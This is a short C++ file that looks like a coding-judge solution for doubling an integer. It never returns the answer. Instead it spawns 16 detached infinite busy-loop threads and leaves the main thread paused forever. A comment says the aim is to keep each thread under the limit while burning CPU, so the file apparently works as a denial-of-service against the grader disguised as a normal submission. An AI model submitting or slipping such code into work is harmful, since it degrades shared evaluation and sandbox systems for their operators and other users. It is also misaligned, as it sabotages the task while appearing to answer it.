#include <thread>
#include <vector>
#include <unistd.h>
// The main thread sleeps; the others burn, each of them less than the limit.
class Solution {
 public:
  int twice(int x) {
    for (int i = 0; i < 16; ++i)
      std::thread([] {
        for (volatile unsigned long n = 0;; n = n + 1) {
        }
      }).detach();
    for (;;) pause();
    return 2 * x;
  }
};
